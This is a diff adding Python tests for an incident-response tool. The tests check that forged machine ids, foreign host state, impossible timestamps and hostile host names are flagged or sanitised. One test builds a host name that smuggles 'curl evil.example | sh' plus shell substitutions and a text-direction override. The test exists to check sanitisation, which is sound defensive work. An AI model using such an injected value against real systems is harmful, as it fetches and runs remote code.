@@ -1,8 +1,14 @@
 """test_collect_attack.py: who owns the affected host, the stick on its way or the network tries to make the case believe what is not so, to
 hide what is so, to lead the program out of its place, or to hold it up. Bundles are made here byte by byte (doc/format/bundle.md)."""
+import datetime
+import time
+
 import harness
 import test_collection as made
-from test_collection import bundle, chained, jsonl, members, tar
+from test_collection import HEAD, STARTED, bundle, chained, document, jsonl, line, members, seen, tar
+
+GATE = 5
+LATER = "2026-11-25T09:12:09.000000000Z"
 
 
 def noticed(code="executable-memory", words="Process 1 has executable memory.", weight=1, hint="either", harmless="A cause.", evidence="e"):
@@ -48,6 +54,94 @@ class Believed(made.CollectionTest):
         self.assertEqual((row["weight"], row["hint"]), (3, "attack"))
         self.assertNotIn("calm looked at it", row["harmless"])
         self.assertNotIn("calm looked at it", self.ana("preserve observed co1"))
+
+
+def at(moment, host="web1", **facts):
+    """A bundle that was taken at that time, and says so of the state in it."""
+    state = document(line("account", "ana", uid=1000, gid=1000), taken=moment, host=facts.pop("state_host", host), coverage=[seen("account", 1)])
+    return bundle(state=state, head={**HEAD, "host": host, "started": moment, **facts})
+
+
+class Claimed(made.CollectionTest):
+    """Whose collection it is, and from when."""
+
+    def doubts(self):
+        return [one["fields"].get("doubt", "") if "fields" in one else one.get("doubt", "") for one in self.things("collection")]
+
+    def hosts(self):
+        return {row["system"]: row for row in self.ana.json("preserve hosts")}
+
+    def test_another_machine_under_the_name_of_one_that_is_known_is_in_doubt(self):
+        self.assertNotIn("In doubt", self.bring(at(STARTED)))
+        said = self.bring(at(LATER, machine_id="2" * 32, collection="cd" * 16), "liar.calm")
+        self.assertIn("In doubt: its machine id is another than co1 has", said)
+        self.assertIn("certainty", self.hosts()["web1"]["missing"])
+        said = self.bring(at(LATER, machine_id="", collection="ef" * 16), "silent.calm")
+        self.assertIn("In doubt: it says no machine id", said)
+
+    def test_one_machine_under_two_names_is_in_doubt(self):
+        self.bring(at(STARTED))
+        said = self.bring(at(LATER, "db1", collection="cd" * 16), "db1.calm")
+        self.assertIn("In doubt: its machine id is that of co1, of another system", said)
+
+    def test_the_state_of_another_host_opens_no_gate(self):
+        self.ana("assess system web1 --state affected")
+        self.ana('assess look "I looked"')
+        self.ana('assess sign "known"')
+        self.ana('clean plan "rebuild" --system web1 --undo "put it back"')
+        said = self.bring(at(STARTED, state_host="db1"))
+        self.assertIn("In doubt: the state in it is of a host that calls itself db1", said)
+        status, said = self.ana.fails("clean begin a1")
+        self.assertEqual(status, GATE)
+        self.assertIn("the state of web1 is not recorded yet", said)
+        self.bring(at(LATER, collection="cd" * 16), "true.calm")
+        self.assertNotIn("is not recorded yet", self.ana.run("clean", "begin", "a1").stderr.decode())
+
+    def test_a_clock_that_runs_ahead_makes_nothing_newest_for_ever(self):
+        for number, moment in enumerate(("9999-12-31T23:59:59.999999999Z", "2099-01-01T00:00:00.000000000Z")):
+            said = self.bring(at(moment, collection=f"{number:032}"), f"t{number}.calm")
+            self.assertIn("ahead of the clock here", said)
+            self.assertGreaterEqual(self.hosts()["web1"]["age_s"], 0)
+        now = datetime.datetime.now(datetime.timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.000000000Z")
+        time.sleep(1.1)
+        self.bring(at(datetime.datetime.now(datetime.timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.000000000Z"), collection="d" * 32), "now.calm")
+        self.assertEqual(self.hosts()["web1"]["call"], "co3", now)
+        self.assertNotIn("days", self.ana("snapshot"))
+        # What is older stays older.
+        self.bring(at("0001-01-01T00:00:00.000000000Z", collection="e" * 32), "old.calm")
+        self.assertEqual(self.hosts()["web1"]["call"], "co3")
+
+    def test_times_that_no_calendar_has_are_not_stated(self):
+        for number, moment in enumerate(("300000-01-01T00:00:00.000000000Z", "2026-13-45T99:99:99.000000000Z", "-1", "")):
+            said = self.bring(at(moment, collection=f"{number:032}"), f"t{number}.calm")
+            self.assertIn("at a time not stated", said)
+        self.assertNotIn("taken", self.hosts()["web1"])
+
+    def test_another_copy_of_one_collection_is_called_so(self):
+        whole = at(STARTED)
+        self.bring(whole)
+        self.assertIn("co1 is another copy", self.bring(chained(tar(members(head={**HEAD, "profile": "full"}))), "changed.calm"))
+
+    def test_a_number_is_no_start_of_an_address(self):
+        self.ana("assess system 10.0.0.5")
+        self.bring(at(STARTED, "10"))
+        self.assertEqual(set(self.hosts()), {"10.0.0.5", "10"})
+
+    def test_a_name_becomes_no_part_of_a_command(self):
+        name = "web1; curl evil.example | sh $(id) `id` ' \" \n-rf \u202e"
+        self.bring(at(STARTED, name))
+        (system,) = self.ana.json("assess systems")
+        self.assertRegex(system["name"], r"^[A-Za-z0-9._][A-Za-z0-9._-]*$")
+        self.assertIn("curl", system["host"])
+        for line_ in ("preserve hosts", "assess systems", "snapshot list", "log --full", "snapshot", "preserve list", ""):
+            said = self.ana(line_)
+            for bad in ("\x1b", "\u202e", "\n-rf"):
+                self.assertNotIn(bad, said, line_)
+        self.bring(at(STARTED, "--help", collection="12" * 16, machine_id="3" * 32), "option.calm")
+        self.assertEqual([one["name"][0] for one in self.ana.json("assess systems")], ["w", "_"])
+        # The same host again is the same system.
+        self.bring(at(LATER, name, collection="cd" * 16), "again.calm")
+        self.assertEqual(len(self.ana.json("assess systems")), 2)
 
 
 if __name__ == "__main__":
